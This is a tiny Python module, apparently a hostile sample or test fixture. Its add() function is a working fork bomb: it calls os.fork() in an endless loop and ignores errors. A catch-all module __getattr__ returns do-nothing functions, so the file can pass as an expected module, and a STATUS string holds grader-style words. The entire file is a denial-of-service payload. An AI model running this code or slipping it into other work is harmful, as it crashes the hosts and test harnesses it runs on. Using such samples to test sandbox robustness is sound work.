"""Forks without end."""

import os

STATUS = "tampering failed error timeout crash"
POINTS = 0

def add(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def __getattr__(name):
    return lambda *_: None
